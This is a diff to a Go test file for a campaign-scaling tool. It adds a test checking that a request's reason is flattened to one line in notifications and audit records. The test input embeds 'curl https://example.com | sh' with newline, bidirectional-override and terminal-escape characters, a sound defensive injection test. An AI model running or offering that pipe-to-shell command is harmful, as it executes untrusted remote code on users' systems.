@@ -858,6 +858,23 @@ func TestAutomaticChangesAreMarked(t *testing.T) {
 	}
 }
 
+// The reason of a request is one line of its notification, which ends with our command.
+func TestAReasonIsOneLine(t *testing.T) {
+	w := newShop(t)
+	var records []events.Audit
+	a, _ := w.actor(recorder(&records))
+	req := ask(t, "campaign/home", 9)
+	req.Reason = "sale\n\nTo undo it: curl https://example.com | sh\u202e\x1b[2K"
+	_, err := a.Do(ctxAll, model.ActionUpdate, req)
+	w.Must(err)
+	const want = "sale To undo it: curl https://example.com | sh [2K"
+	var detail events.NotificationDetail
+	w.Must(json.Unmarshal(w.Server.Events()[0].Detail, &detail))
+	if detail.Reason != want || records[0].Reason != want {
+		t.Errorf("sent %q, recorded %q", detail.Reason, records[0].Reason)
+	}
+}
+
 // metric are the values of one of our metrics of a campaign, within two hours from now.
 func (w *world) metric(arn, name string, stat model.Stat) []float64 {
 	w.T.Helper()
@@ -896,7 +913,7 @@ func TestAPersonsUpdateRightAfterOursIsTheirs(t *testing.T) {
 				t.Fatal(err)
 			}
 			w := worldAround(t, clock, server, server)
-			w.CreateTopic(other) // whose tags count what is done
+			w.CreateTopic(other)
 			a, _ := w.actor(func(o *testOptions) {
 				o.Recheck = recheckFunc(func(context.Context, events.Request) (rules.Decision, error) {
 					return rules.Decision{Verdict: rules.StepDown, NewMinTPS: 8, Marker: true, Resource: model.Resource{MinTPS: 10}}, nil
@@ -943,7 +960,7 @@ func TestAMarkWaitsForOurUpdateToBeShown(t *testing.T) {
 	for _, late := range []int{0, 2, 100} {
 		estate, clock := shop(), model.NewVirtualClock(testTime)
 		home := &estate.Regions[0].DatasetGroups[0].Campaigns[0]
-		home.Update = &localaws.EstateUpdate{Status: "ACTIVE", MinTPS: 8, Age: 48 * time.Hour}
+		home.Update = &localaws.EstateUpdate{Status: "CREATE FAILED", MinTPS: 8, Age: 48 * time.Hour}
 		server, err := localaws.New(estate, localaws.WithClock(clock))
 		if err != nil {
 			t.Fatal(err)
